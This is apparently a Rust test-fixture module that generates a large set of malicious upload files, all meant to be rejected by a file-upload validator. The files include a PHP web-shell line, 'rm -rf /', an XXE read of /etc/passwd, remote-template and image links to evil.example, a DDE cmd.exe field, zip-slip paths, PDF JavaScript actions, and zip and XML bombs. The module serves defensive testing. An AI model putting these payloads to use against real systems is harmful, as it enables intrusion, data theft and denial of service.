//! The hostile set (G-16): the same files on every run, over all types and rules of U-01 … U-08.

use crate::{
    Entry, OFFICE, content_types, document, docx_parts, docx_with, dwg, entry, jpg, jpg_with, ofd_parts, pdf, pdf_with,
    pdf_with_text, png, png_with, relations, stream_object, with, xlsx_parts, zip, zip_with,
};

/// A file nobody should get in as it is.
#[derive(Debug, Clone)]
pub struct Hostile {
    /// What is wrong with it.
    pub what: String,
    /// Name it is uploaded under.
    pub name: String,
    /// Content.
    pub bytes: Vec<u8>,
    /// Bytes that may be in the file but in nothing that people are shown; `None`: the file must be refused.
    pub harmless_without: Option<Vec<u8>>,
}

fn refuse(what: impl Into<String>, name: impl Into<String>, bytes: Vec<u8>) -> Hostile {
    Hostile { what: what.into(), name: name.into(), bytes, harmless_without: None }
}

/// A good file of each type.
fn good() -> [(&'static str, Vec<u8>); 8] {
    [
        ("pdf", pdf()),
        ("jpg", jpg()),
        ("png", png()),
        ("docx", zip(&docx_parts())),
        ("xlsx", zip(&xlsx_parts())),
        ("ofd", zip(&ofd_parts())),
        ("dwg", dwg()),
        ("zip", zip(&[entry("a.pdf", pdf())])),
    ]
}

/// Every hostile file.
pub fn hostile() -> Vec<Hostile> {
    [names(), disguised(), cut(), polyglots(), pdfs(), office(), archives(), pictures(), bombs()].concat()
}

fn names() -> Vec<Hostile> {
    let signs = [
        "../a.pdf",
        "a/b.pdf",
        "..\\a.pdf",
        "C:\\a.pdf",
        "a\0.pdf",
        "a\r\nSet-Cookie: x.pdf",
        "a\u{202e}fdp.exe.pdf",
        "a\u{2066}.pdf",
        "a\u{200b}.pdf",
        "\u{feff}a.pdf",
        "a\u{2028}.pdf",
        "a\u{7f}.pdf",
        "a\u{85}b.pdf",
        "a\".pdf",
        "<script>.pdf",
        "a|b.pdf",
        "a?.pdf",
        "a*.pdf",
        "a\u{200f}.pdf",
        "a\u{e0041}.pdf",
        "",
        "..",
        "   ",
    ];
    let extensions = [
        "a.pdf.exe",
        "a.pdf.js",
        "a.docm",
        "a.xlsm",
        "a.doc",
        "a.html",
        "a.svg",
        "a.lnk",
        "a.php",
        "a.pdf.",
        "pdf",
        ".pdf",
        "a.zip.scr",
        "a.jar",
        "a.hta",
        "a.eml",
        "a.iso",
        "a.xml",
    ];
    let long = "长".repeat(201) + ".pdf";
    let named = |what: &str, name: &str| refuse(format!("{what} {name:?}"), name, pdf());
    let mut all: Vec<_> = signs.iter().map(|name| named("name", name)).collect();
    all.extend(extensions.iter().map(|name| named("extension", name)));
    all.push(named("long name", &long));
    all
}

/// Every type under the extension of every other.
fn disguised() -> Vec<Hostile> {
    let mut all = Vec::new();
    for (extension, _) in good() {
        for (real, bytes) in good() {
            if real != extension {
                all.push(refuse(format!("{real} as {extension}"), format!("a.{extension}"), bytes));
            }
        }
        for (what, start) in [
            ("program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0".as_slice()),
            ("page", b"<html><script>alert(1)</script></html>"),
            ("old office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and more"),
            ("script", b"#!/bin/sh\nrm -rf /\n"),
            ("shortcut", b"L\0\0\0\x01\x14\x02\0\0\0\0\0"),
            ("nothing", b""),
            ("test virus", br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
        ] {
            all.push(refuse(format!("{what} as {extension}"), format!("a.{extension}"), start.to_vec()));
        }
    }
    all
}

fn cut() -> Vec<Hostile> {
    let mut all = Vec::new();
    for (extension, bytes) in good() {
        for part in [4, 3, 2] {
            let end = bytes.len() / part;
            if extension != "dwg" || end < 128 {
                all.push(refuse(
                    format!("{extension} cut to 1/{part}"),
                    format!("a.{extension}"),
                    bytes[..end].to_vec(),
                ));
            }
        }
    }
    all
}

/// Something before the file, or behind it.
fn polyglots() -> Vec<Hostile> {
    let page = b"<html><script>alert(1)</script></html>".to_vec();
    let payloads = [
        ("page", page),
        ("program", b"MZ\x90\0\x03\0\0\0 program".to_vec()),
        ("php", b"<?php system($_GET['c']); ?>".to_vec()),
        ("archive", zip(&[entry("a.exe", "MZ")])),
        ("gif", b"GIF89a\x01\0\x01\0".to_vec()),
    ];
    let mut all = Vec::new();
    for (extension, bytes) in good().into_iter().filter(|(extension, _)| *extension != "dwg") {
        for (what, payload) in &payloads {
            let name = format!("a.{extension}");
            all.push(refuse(format!("{what} before {extension}"), &name, [payload.as_slice(), &bytes].concat()));
            all.push(refuse(format!("{what} behind {extension}"), &name, [bytes.as_slice(), payload].concat()));
        }
    }
    all
}

/// Every letter written as `#xx`.
fn escaped(name: &str) -> String {
    name.bytes().map(|byte| format!("#{byte:02x}")).collect()
}

fn pdfs() -> Vec<Hostile> {
    let with = |object: String| pdf_with(&[object.as_bytes()], "");
    let packed = |inner: String| {
        let inner = format!("10 0 {inner}");
        pdf_with(&[&stream_object("/Type /ObjStm /N 1 /First 5", inner.as_bytes())], "")
    };
    let active = [
        "JavaScript",
        "JS",
        "Launch",
        "EmbeddedFile",
        "EmbeddedFiles",
        "FileAttachment",
        "RichMedia",
        "XFA",
        "GoToE",
        "ImportData",
        "SubmitForm",
        "Rendition",
        "Movie",
    ];
    let mut all = Vec::new();
    for name in active {
        let code = escaped(name);
        for (how, bytes) in [
            ("plain", with(format!("5 0 obj << /S /{name} /A 6 0 R >> endobj"))),
            ("escaped", with(format!("5 0 obj << /S /{code} >> endobj"))),
            ("in an object stream", packed(format!("<< /S /{name} >>"))),
            ("escaped in an object stream", packed(format!("<< /S /{code} >>"))),
            ("in the trailer", pdf_with(&[], &format!("/Names << /{name} 7 0 R >>"))),
            ("behind a comment", with(format!("5 0 obj << % ) endobj\n/{name} 6 0 R>> endobj"))),
            (
                "in a stream's dictionary",
                with(format!("5 0 obj << /{name} 6 0 R /Length 1 >> stream\nx\nendstream endobj")),
            ),
            ("escaped in the trailer", pdf_with(&[], &format!("/Names << /{code} 7 0 R >>"))),
            ("in an array", with(format!("5 0 obj [[[<</{name} 6 0 R>>]]] endobj"))),
        ] {
            all.push(refuse(format!("{name} {how}"), "a.pdf", bytes));
        }
    }
    for (what, bytes) in [
        ("encrypted", pdf_with(&[], "/Encrypt 8 0 R")),
        ("escaped encrypt", pdf_with(&[], "/#45ncrypt 8 0 R")),
        ("encrypt in an object stream", packed("<< /Encrypt 1 0 R >>".to_owned())),
        ("hidden in a string", with("5 0 obj (6 0 obj <</JS 7 0 R>> endobj) endobj".to_owned())),
        ("hidden in a stream", with("5 0 obj <<>> stream\n6 0 obj <</JS 7 0 R>>\nendstream endobj".to_owned())),
        (
            "opaque filter",
            with("5 0 obj <</Type/ObjStm/N 1/First 5/Filter/LZWDecode>> stream\nx\nendstream".to_owned()),
        ),
        ("filter elsewhere", with("5 0 obj <</Type/ObjStm/N 1/First 5/Filter 6 0 R>> stream\nx\nendstream".to_owned())),
        ("no root", String::from_utf8_lossy(&pdf()).replace("/Root", "/Toor").into_bytes()),
        ("only a header", b"%PDF-1.7\n".to_vec()),
        ("strings without end", with("5 0 obj ( ".repeat(2000))),
    ] {
        all.push(refuse(what, "a.pdf", bytes));
    }
    all
}

fn office() -> Vec<Hostile> {
    let mut all = Vec::new();
    let dtd = r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>"#;
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>"#;
    for (extension, parts, main, folder) in
        [("docx", docx_parts(), "word/document.xml", "word"), ("xlsx", xlsx_parts(), "xl/workbook.xml", "xl")]
    {
        let part = |name: &str, data: &str| zip(&with(parts.clone(), name, data));
        let inside = |name: &str, data: &str| part(&format!("{folder}/{name}"), data);
        let related = |kind: &str, target: &str, mode: &str| {
            let relation = format!(r#"<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>"#);
            inside("_rels/main.xml.rels", &relations(&relation))
        };
        let outside = r#"TargetMode="External""#;
        let nested = zip(&with(xlsx_parts(), "xl/vbaProject.bin", "x"));
        for (what, bytes) in [
            ("macro", inside("vbaProject.bin", "x")),
            ("macro in capitals", inside("VBAPROJECT.BIN", "x")),
            ("macro data", inside("vbaData.xml", "<a/>")),
            ("macro sheet", inside("macrosheets/sheet1.xml", "<a/>")),
            (
                "macro by content type",
                part(
                    "[Content_Types].xml",
                    &content_types(main, "application/vnd.ms-word.document.macroEnabled.main+xml"),
                ),
            ),
            ("macro by relation", related("vbaProject", "a.bin", "")),
            ("macro behind a chart", zip(&with(parts.clone(), &format!("{folder}/embeddings/a.xlsx"), nested))),
            ("template outside", related("attachedTemplate", "http://evil.example/a.dotm", outside)),
            ("picture outside", related("image", "http://evil.example/a.png", outside)),
            ("outside without saying so", related("image", "https://evil.example/a.png", "")),
            ("outside by reference", related("image", "a.png", r#"TargetMode="&#69;xternal""#)),
            ("network share", related("hyperlink", r"\\evil\share", outside)),
            ("local program", related("hyperlink", "file:///c:/a.exe", outside)),
            ("ole object", inside("embeddings/oleObject1.bin", "x")),
            ("ole relation", related("oleObject", "a.bin", "")),
            ("active-x", inside("activeX/activeX1.xml", "<a/>")),
            ("program", inside("media/a.exe", "MZ")),
            ("program in disguise", inside("media/image1.png", "MZ\x01")),
            ("archive in disguise", inside("media/image1.png", "PK\x03\x04")),
            ("ole in disguise", zip(&with(parts.clone(), &format!("{folder}/media/image1.png"), b"\xd0\xcf\x11\xe0"))),
            ("page inside", inside("media/a.html", "<script/>")),
            ("dtd", part(main, dtd)),
            ("entities", part(main, laughs)),
            ("utf-7", part(main, r#"<?xml version="1.0" encoding="UTF-7"?><a/>"#)),
            ("not xml", part(main, "a < b")),
            ("zip-slip", zip(&with(parts.clone(), "../../evil.xml", "<a/>"))),
            ("no main part", zip(&parts[..1])),
        ] {
            all.push(refuse(format!("{extension}: {what}"), format!("a.{extension}"), bytes));
        }
    }
    for (what, inner) in [
        ("dde", r"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"),
        ("dde split", "<w:fldChar/><w:instrText> D</w:instrText><w:r/><w:instrText>DE a</w:instrText>"),
        ("dde by reference", "<w:instrText>&#68;DE a</w:instrText>"),
        ("included text", r#"<w:fldSimple w:instr=" includetext http://a"/>"#),
        ("included picture", "<w:instrText>INCLUDEPICTURE http://a</w:instrText>"),
        ("link", "<w:instrText>LINK Excel.Sheet a</w:instrText>"),
        ("spelt field", "<w:fldChar/><w:fldChar/><w:instrText>QUOTE 68 68 69</w:instrText>"),
    ] {
        all.push(refuse(what, "a.docx", zip(&with(docx_parts(), "word/document.xml", document(inner)))));
    }
    for (what, name, data) in [
        ("linked workbook", "xl/externalLinks/externalLink1.xml", "<a/>"),
        ("data connection", "xl/connections.xml", "<a/>"),
    ] {
        all.push(refuse(what, "a.xlsx", zip(&with(xlsx_parts(), name, data))));
    }
    all.push(refuse("ofd: program", "a.ofd", zip(&with(ofd_parts(), "Doc_0/Attachs/a.exe", "x"))));
    all.push(refuse("ofd: dtd", "a.ofd", zip(&with(ofd_parts(), "OFD.xml", dtd))));
    all
}

fn archives() -> Vec<Hostile> {
    let file = |name: &str| zip(&[entry(name, pdf())]);
    let mode = |mode| zip(&[Entry { mode, ..entry("a.pdf", "/etc/passwd") }]);
    let flags = |flags| zip(&[Entry { flags, ..entry("a.pdf", pdf()) }]);
    let sized = |size| zip(&[Entry { size: Some(size), ..entry("a.pdf", pdf()) }]);
    let two_names = Entry { local_name: Some(b"b.pdf".to_vec()), ..entry("a.pdf", pdf()) };
    let mut wrong_sum = file("a.pdf");
    wrong_sum[60] ^= 1;
    let mut all = vec![
        refuse("1001 entries", "a.zip", zip(&(0..1001).map(|i| entry(format!("{i}.pdf"), "")).collect::<Vec<_>>())),
        refuse("duplicate", "a.zip", zip(&[entry("a.pdf", pdf()), entry("a.pdf", pdf())])),
        refuse("duplicate in capitals", "a.zip", zip(&[entry("a.pdf", pdf()), entry("A.PDF", pdf())])),
        refuse("overlap", "a.zip", zip_with(&[entry("a.pdf", pdf()), entry("b.pdf", pdf())], true)),
        refuse(
            "overlap of many",
            "a.zip",
            zip_with(&(0..250).map(|i| entry(format!("{i}.pdf"), pdf())).collect::<Vec<_>>(), true),
        ),
        refuse("symlink", "a.zip", mode(0o120_777)),
        refuse("device", "a.zip", mode(0o020_666)),
        refuse("pipe", "a.zip", mode(0o010_666)),
        refuse("encrypted entry", "a.zip", flags(1)),
        refuse("strongly encrypted entry", "a.zip", flags(0x41)),
        refuse("size too small", "a.zip", sized(10)),
        refuse("size too large", "a.zip", sized(1_000_000)),
        refuse("size of four gigabytes", "a.zip", sized(u32::MAX)),
        refuse("checksum", "a.zip", wrong_sum),
        refuse("two names", "a.zip", zip(&[two_names])),
        refuse("empty archive", "a.zip", zip(&[])),
        refuse("archive in archive", "a.zip", zip(&[entry("b.zip", file("a.pdf"))])),
        refuse("virus in archive", "a.zip", zip(&[entry("eicar.com", "X5O!P%@AP")])),
        refuse(
            "active pdf in archive",
            "a.zip",
            zip(&[entry("a.pdf", pdf_with(&[], "/Names << /JavaScript 1 0 R >>"))]),
        ),
        refuse(
            "macro in archive",
            "a.zip",
            zip(&[entry("a.docx", zip(&with(docx_parts(), "word/vbaProject.bin", "x")))]),
        ),
        refuse("flood in archive", "a.zip", zip(&[entry("a.png", flood(0x7fff_ffff, 0x7fff_ffff))])),
    ];
    for name in [
        "../../etc/cron.d/a.pdf",
        "a/../../b.pdf",
        "..\\a.pdf",
        "a\\b.pdf",
        "/etc/a.pdf",
        "C:a.pdf",
        "a.pdf\0.exe",
        "a\r\n.pdf",
        "",
        "./a.pdf",
        "setup.exe",
        "index.html",
        "a.js",
        "a.lnk",
        "a.svg",
        "a.docm",
        "a",
    ] {
        all.push(refuse(format!("entry {name:?}"), "a.zip", file(name)));
    }
    all
}

/// A PNG that says it is so large.
fn flood(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = png();
    bytes[16..20].copy_from_slice(&width.to_be_bytes());
    bytes[20..24].copy_from_slice(&height.to_be_bytes());
    bytes
}

fn pictures() -> Vec<Hostile> {
    let mut jpg_flood = jpg();
    let frame = jpg_flood.windows(2).position(|w| w == [0xff, 0xc0]).unwrap_or(0);
    jpg_flood[frame + 5..frame + 9].copy_from_slice(&[0xff; 4]);
    let second: Vec<u8> = jpg_flood[frame + 4..frame + 19].to_vec();
    let mut rotten = png();
    let data = rotten.windows(4).position(|w| w == b"IDAT").unwrap_or(0);
    rotten[data + 8] ^= 0xff;
    let mut all = vec![
        refuse("jpg flood", "a.jpg", jpg_flood),
        refuse("two frames", "a.jpg", jpg_with(0xc0, &second)),
        refuse("rotten data", "a.png", rotten),
        refuse("only a head", "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\0".to_vec()),
    ];
    for (width, height) in [(0, 0), (1, u32::MAX), (u32::MAX, 1), (65_535, 65_535), (6400, 6300), (0x8000_0000, 2)] {
        all.push(refuse(format!("png of {width} × {height}"), "a.png", flood(width, height)));
    }
    for markup in ["<ScRiPt>alert(1)</script>", "<svg onload=x>", "<?php x ?>", "<iframe src=x>", "<!DOCTYPE html>"] {
        all.push(refuse(format!("{markup} in a comment"), "a.jpg", jpg_with(0xfe, markup.as_bytes())));
        let text = [b"Comment\0", markup.as_bytes()].concat();
        all.push(refuse(format!("{markup} in a text"), "a.png", png_with(b"tEXt", &text)));
    }
    // What is left out of the copy that people see.
    for (what, secret) in
        [("place", b"GPS 39.9N 116.4E".as_slice()), ("program", b"MZ\x90\0 This program cannot be run")]
    {
        let text = [b"Comment\0", secret].concat();
        for (name, bytes) in [("a.jpg", jpg_with(0xfe, secret)), ("a.png", png_with(b"tEXt", &text))] {
            let what = format!("{what} in the metadata of {name}");
            all.push(Hostile { what, name: name.to_owned(), bytes, harmless_without: Some(secret.to_vec()) });
        }
    }
    all
}

/// What costs time or memory.
fn bombs() -> Vec<Hostile> {
    let stream = |dictionary: &str, data: &[u8]| pdf_with(&[&stream_object(dictionary, data)], "");
    let zeros = vec![0u8; 20_000_000];
    let blanks = vec![b' '; 34 * 1024 * 1024];
    let deep = |count: usize| "<a>".repeat(count);
    let mut sheet = xlsx_parts();
    sheet.push(entry("xl/media/a.emf", &zeros));
    let many: Vec<_> =
        (0..30).map(|i| entry(format!("{i}.pdf"), [pdf().as_slice(), &blanks[..20_000_000]].concat())).collect();
    let loops = pdf_with(&[b"3 0 obj << /Type /Pages /Kids [2 0 R] /Count 1000000 >> endobj"], "");
    vec![
        refuse("zip bomb in a workbook", "a.xlsx", zip(&sheet)),
        refuse("zip bomb", "a.zip", zip(&[entry("a.png", &zeros)])),
        refuse("many bombs", "a.zip", zip(&many)),
        refuse("object stream bomb", "a.pdf", stream("/Type /ObjStm /N 1 /First 5", &blanks)),
        refuse("many object stream bombs", "a.pdf", {
            let one = stream_object("/Type /ObjStm /N 1 /First 5", &blanks[..30_000_000]);
            pdf_with(&vec![one.as_slice(); 40], "")
        }),
        refuse("xml without end", "a.docx", docx_with("", "", "").map_main(&deep(200_000))),
        refuse("pixels just within memory no more", "a.png", flood(40_000, 1_100)),
        refuse("strings over and over", "a.pdf", pdf_with(&["5 0 obj ( ".repeat(100_000).as_bytes()], "")),
        Hostile {
            harmless_without: Some(b"nothing".to_vec()),
            ..refuse("a page tree that bites its tail", "a.pdf", loops)
        },
        Hostile {
            harmless_without: Some(b"nothing".to_vec()),
            ..refuse(
                "brackets within brackets",
                "a.pdf",
                pdf_with(
                    &["5 0 obj ".to_owned().into_bytes(), b"[".repeat(300_000)]
                        .concat()
                        .chunks(400_000)
                        .collect::<Vec<_>>(),
                    "",
                ),
            )
        },
        Hostile {
            harmless_without: Some(b"nothing".to_vec()),
            ..refuse("a stream that unfolds without end", "a.pdf", pdf_with_text("q", &blanks))
        },
    ]
}
